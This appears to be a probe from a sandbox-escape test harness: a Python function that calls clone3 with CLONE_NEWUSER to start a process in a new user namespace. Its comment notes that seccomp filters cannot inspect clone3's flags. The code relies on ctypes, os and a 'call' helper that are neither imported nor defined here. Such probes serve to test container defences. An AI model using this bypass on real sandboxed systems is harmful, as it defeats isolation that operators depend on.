# Starts a process in a new user namespace by clone3, whose flags no filter sees.
# group: namespaces
# held: seccomp
import struct
def attack(lure):
    arguments = ctypes.create_string_buffer(struct.pack("8Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0), 64)
    child = call("clone3", arguments, 64)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "started a process in a new user namespace"
